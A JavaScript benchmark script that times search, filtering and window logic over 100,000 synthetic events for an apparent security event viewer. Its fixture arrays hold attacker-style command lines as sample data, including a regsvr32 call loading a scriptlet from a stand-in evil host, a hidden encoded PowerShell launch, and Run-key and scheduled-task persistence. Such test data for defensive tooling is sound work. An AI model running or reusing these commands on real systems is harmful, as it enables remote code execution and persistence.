// View logic over a 100,000-event buffer: search (cold and warm), incremental updates while a
// search is active, field filters, category toggles, window maths. Prints figures; never fails on
// time. Build first: npx tsc -p tsconfig.json
import {createRng} from '../dist/source/core/demo/index.js';
import {feedWindow, FilteredView, moveWindow, parseQuery, timeJump} from '../dist/source/core/view/index.js';

// Realistic-looking normalized events built directly (no decoder), deterministic per seed, so the
// benchmark measures the view logic only.
const rng = seed => createRng(seed).next;

const IMAGES = [
	'C:\\Windows\\System32\\svchost.exe',
	'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
	'C:\\Windows\\System32\\cmd.exe',
	'C:\\Windows\\System32\\regsvr32.exe',
	'C:\\Windows\\System32\\rundll32.exe',
	'C:\\Windows\\explorer.exe',
	'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
	'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
	'C:\\Windows\\System32\\schtasks.exe',
	'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
	'/usr/bin/bash',
	'/usr/sbin/sshd',
	'/usr/bin/curl',
];
const ARGS = [
	'-k netsvcs -p -s Schedule',
	'-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
	'/c whoami /all',
	'/s /n /u /i:http://evil.example/a.sct scrobj.dll',
	'shell32.dll,Control_RunDLL',
	'--type=renderer --lang=en-US',
	'/create /tn Updater /tr C:\\Users\\Public\\u.exe',
	'-c "id; uname -a"',
	'https://updates.example.com/pkg.tar.gz',
];
const DOMAINS = [
	'dns.google',
	'outlook.office365.com',
	'login.microsoftonline.com',
	'updates.example.com',
	'evil.example',
	'github.com',
	'clients2.google.com',
];
const KEYS = [
	'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
	'HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command',
	'HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend',
];
const USERS = ['alice', 'bob', 'NT AUTHORITY\\SYSTEM', 'carol', 'svc_backup', 'root'];
const CATS = [
	['Process Creation', 'process'],
	['File Creation', 'file'],
	['File Modification', 'file'],
	['DNS', 'network'],
	['TCPv4 Connection', 'network'],
	['Registry Value Modified', 'registry'],
	['Scheduled Task Register', 'scheduled task'],
	['Login', 'login'],
];

function makeEvents(count, {seed = 1, startSeq = 1, now = Date.now()} = {}) {
	const r = rng(seed + startSeq);
	const pick = a => a[Math.floor(r() * a.length)];
	const out = new Array(count);
	for (let i = 0; i < count; i++) {
		const [category, family] = pick(CATS);
		const image = pick(IMAGES);
		const cmd = `"${image}" ${pick(ARGS)}`;
		const host = `WS${String(Math.floor(r() * 400)).padStart(3, '0')}`;
		const user = pick(USERS);
		const pid = 1000 + Math.floor(r() * 60000);
		const target = {};
		let summary;
		if (family === 'process') {
			target.process = {image: pick(IMAGES), cmdline: `${pick(ARGS)} ${Math.floor(r() * 1e6)}`, pid: pid + 1};
			summary = `${image.split(/[\\/]/).pop()} -> ${target.process.image.split(/[\\/]/).pop()} ${target.process.cmdline}`;
		} else if (family === 'file') {
			target.file = {path: `C:\\Users\\${user}\\AppData\\Local\\Temp\\${Math.floor(r() * 1e8).toString(16)}.tmp`};
			summary = `${image.split(/[\\/]/).pop()} wrote ${target.file.path}`;
		} else if (category === 'DNS') {
			target.dns = {query: pick(DOMAINS), answers: '8.8.8.8'};
			summary = `${image.split(/[\\/]/).pop()} resolved ${target.dns.query}`;
		} else if (family === 'network') {
			target.network = {
				dstIp: `10.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}.7`,
				dstPort: 443,
				direction: 'outgoing',
			};
			summary = `${image.split(/[\\/]/).pop()} -> ${target.network.dstIp}:443`;
		} else if (family === 'registry') {
			target.registry = {key: pick(KEYS), value: 'Updater', data: 'C:\\Users\\Public\\u.exe'};
			summary = `${image.split(/[\\/]/).pop()} set ${target.registry.key}\\Updater`;
		} else if (family === 'scheduled task') {
			target.task = {name: '\\Updater', executable: 'C:\\Users\\Public\\u.exe'};
			summary = `task registered \\Updater -> C:\\Users\\Public\\u.exe`;
		} else {
			target.login = {user, type: 'interactive', result: 'success'};
			summary = `login ${user} interactive success`;
		}
		const hits =
			image.endsWith('regsvr32.exe') && r() < 0.5
				? [
						{
							id: 'c0a7d0b8-regsvr32',
							title: 'Regsvr32 Squiblydoo',
							level: 'high',
							tags: ['attack.defense-evasion', 'attack.t1218.010'],
							fields: [
								{
									field: 'CommandLine|contains',
									value: cmd,
									spans: [[cmd.indexOf('scrobj'), cmd.indexOf('scrobj') + 6]],
								},
							],
						},
					]
				: [];
		const time = now - Math.floor(r() * 4000);
		out[i] = {
			seq: startSeq + i,
			category,
			family,
			format: 's1-dv',
			time,
			receivedAt: now,
			kafka: {
				topic: 'dv',
				partition: i % 3,
				offset: String(startSeq + i),
				timestamp: time + 300,
				timestampType: 'CreateTime',
			},
			host,
			os: image.startsWith('/') ? 'linux' : 'windows',
			user,
			actor: {image, cmdline: cmd, pid, user},
			parent: {image: 'C:\\Windows\\explorer.exe', pid: 4000},
			target,
			summary,
			hits,
			raw: {event: {type: category, host, user, process: {image, cmdline: cmd, pid}, target}},
		};
	}
	return out;
}

const N = Number(process.env.VIEW_BENCH_EVENTS ?? 100_000);
const APPEND = 5_000;
const RUNS = 5;

const ms = t => `${t.toFixed(1)} ms`;
function time(fn) {
	const s = performance.now();
	const r = fn();
	return [performance.now() - s, r];
}
function median(fn) {
	const times = [];
	let r;
	for (let i = 0; i < RUNS; i++) {
		const [t, res] = time(fn);
		times.push(t);
		r = res;
	}
	times.sort((a, b) => a - b);
	return [times[Math.floor(times.length / 2)], r, times.at(-1)];
}
const filterOf = (text, extra = {}) => ({
	hiddenCategories: new Set(),
	hitsOnly: false,
	query: text ? parseQuery(text) : undefined,
	...extra,
});

console.log(`view bench: ${N} events, node ${process.version}, median of ${RUNS} runs (max in brackets)`);
const events = makeEvents(N, {seed: 7});

// Cold: the very first search, no projection built yet (a FilteredView with warming off never
// builds them ahead). This is the worst case: the buffer filled while no view watched it.
{
	const view = new FilteredView({warm: false});
	const [t, r] = time(() => view.update(events, filterOf('regsvr32')));
	console.log(`search cold (projections built during the search), "regsvr32": ${ms(t)} -> ${r.visible.length} visible`);
}

// In the app the view warms projections as snapshots arrive; from then on searches are warm.
const queries = [
	'regsvr32',
	'regsrv32',
	'powershel',
	'outlok',
	'updater alice',
	'evil.exmple scrobj',
	'zzzqqq',
	'host:ws01 user:alice',
	'cat:dns level>=high',
	'cat:reg -user:system',
	'cmd.exe',
	'image:cmd.exe',
];
for (const q of queries) {
	const [t, r, max] = median(() => new FilteredView({warm: false}).update(events, filterOf(q)));
	console.log(
		`search warm ${JSON.stringify(q).padEnd(24)} ${ms(t).padStart(10)} (${ms(max)}) -> ${r.visible.length} visible${r.fuzzyLimited ? ', fuzzy check limited to newest candidates' : ''}`,
	);
}

// Incremental: a search is active, the store publishes a new buffer with 5,000 more events (and
// 5,000 evicted from the front, as a full ring buffer does).
for (const q of ['regsrv32', 'updater alice']) {
	const times = [];
	let visible = 0;
	for (let run = 0; run < RUNS; run++) {
		const view = new FilteredView();
		const filter = filterOf(q);
		view.update(events, filter);
		const more = makeEvents(APPEND, {seed: 100 + run, startSeq: N + 1});
		const next = events.slice(APPEND).concat(more);
		const [t, r] = time(() => view.update(next, filter));
		times.push(t);
		visible = r.visible.length;
	}
	times.sort((a, b) => a - b);
	console.log(
		`incremental: +${APPEND} new / -${APPEND} evicted with ${JSON.stringify(q)} active: ${ms(times[2])} -> ${visible} visible`,
	);
}

// Same buffer, same filter: must be the same object, no work.
{
	const view = new FilteredView();
	const filter = filterOf('powershel');
	const a = view.update(events, filter);
	const [t, b] = time(() => view.update(events, filter));
	console.log(`unchanged buffer and filter: ${ms(t)}, same result object: ${a === b}`);
}

// Category toggles: hide a family, show it again (no query).
{
	const hidden = new Set(['DNS', 'TCPv4 Connection', 'TCPv4 Listen', 'HTTP Request']);
	const [t1, r1] = median(() =>
		new FilteredView({warm: false}).update(events, filterOf('', {hiddenCategories: hidden})),
	);
	const [t2, r2] = median(() => new FilteredView({warm: false}).update(events, filterOf('', {hitsOnly: true})));
	const [t3, r3] = median(() => new FilteredView({warm: false}).update(events, filterOf('')));
	console.log(
		`category toggle (hide network): ${ms(t1)} -> ${r1.visible.length}; hits-only: ${ms(t2)} -> ${r2.visible.length}; show all: ${ms(t3)} -> ${r3.visible.length}`,
	);
}

// Window maths for every key press: trivial, but measured.
{
	const height = 20;
	let w = feedWindow({count: N, height, selected: N - 1, top: N - height, follow: true});
	const [t] = time(() => {
		for (let i = 0; i < 100_000; i++) {
			w = moveWindow({...w, count: N, height, follow: false}, i % 2 ? 'pageUp' : 'down');
			w = feedWindow({count: N + (i % 7), height, selected: w.selected, top: w.top, follow: false});
		}
	});
	console.log(`window maths: ${((t / 200_000) * 1e6).toFixed(0)} ns per call`);
}

// Jump to a time (@) over the whole buffer. The feed is in arrival order, which is not strict time
// order (partitions interleave), so the jump scans: once for the oldest and newest times (-5m and a
// clock time count from the newest), once for the first event at or after the target.
{
	const base = Date.parse('2026-11-27T00:00:00Z');
	// Three partitions at 100 events/s each, fetched in turns of 500: times rise within a turn and
	// step back at each change of partition.
	const jumpEvents = events.map((ev, i) => ({...ev, time: base + i * 10 + (Math.floor(i / 500) % 3) * 2000}));
	for (const [what, input] of [
		['early (10%)', '00:01:40'],
		['middle', '00:08:20'],
		['late, relative', '-5s'],
		['after the newest (a miss)', '2026-11-28T00:00Z'],
	]) {
		const [t, r, max] = median(() => timeJump(jumpEvents, input, 'utc'));
		const where = r.ok ? `index ${r.index}` : 'none';
		console.log(
			`jump to a time, ${what.padEnd(26)} ${JSON.stringify(input).padEnd(20)} ${ms(t)} (${ms(max)}) -> ${where}`,
		);
	}
}

// The same searches over decoded demo events (what the app buffers: longer command lines and
// paths than the synthetic events above), projections and bigrams warmed as the app's view does.
{
	const {decodeRecord} = await import('../dist/source/core/formats/index.js');
	const {createPipeline} = await import('../dist/source/core/pipeline.js');
	const {loadRules} = await import('../dist/source/core/rules/index.js');
	const {generateDemoRecords} = await import('../dist/source/core/demo/index.js');
	const {engine} = loadRules([], {builtin: true});
	const pool = [];
	const sink = createPipeline(
		{decode: r => decodeRecord(r), evaluate: ev => engine.evaluate(ev)},
		{events: e => pool.push(...e), skipped() {}, status() {}, end() {}},
	);
	sink.records(generateDemoRecords(5000, {seed: 1}));
	const demo = [];
	for (let i = 0; i < N; i++) demo.push({...pool[i % pool.length], seq: i + 1});
	const warmer = new FilteredView();
	for (let i = 0; i * 5000 < N + 5000; i++) warmer.update(demo.slice(0, N - i), filterOf(''));
	const searches = [
		'regsvr32',
		'host:WS-FIN-04 powershell',
		'chrme',
		'zzzqqq',
		'cmd.exe',
		'"cmd.exe"',
		'image:cmd.exe',
		'10.0.0.5',
		'cat:nonsense',
		'/reg(svr|add)32/',
	];
	for (const q of searches) {
		const [t, r, max] = median(() => new FilteredView({warm: false}).update(demo, filterOf(q)));
		console.log(
			`demo events, search warm ${JSON.stringify(q).padEnd(28)} ${ms(t).padStart(10)} (${ms(max)}) -> ${r.visible.length} visible`,
		);
	}
}
